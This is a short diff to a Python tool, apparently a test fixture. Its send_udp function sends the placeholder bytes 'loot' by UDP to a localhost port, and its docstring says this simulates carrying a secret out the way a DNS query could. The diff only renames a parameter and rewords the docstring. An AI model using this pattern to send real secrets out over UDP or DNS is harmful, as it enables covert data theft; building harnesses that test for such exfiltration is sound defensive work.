@@ -1,4 +1,4 @@
-"""A secret by UDP, as a query of names would carry it."""
+"""Sends a secret by UDP, as a DNS query could carry it."""
 
 import signal
 import socket
@@ -10,7 +10,7 @@ signal.alarm(20)
 
 
 @tool
-def send_udp(world: dict[str, Any]) -> str:
+def send_udp(target: dict[str, Any]) -> str:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
-        line.sendto(b"loot", ("127.0.0.1", world["udp_port"]))
+        line.sendto(b"loot", ("127.0.0.1", target["udp_port"]))
     return "sent"
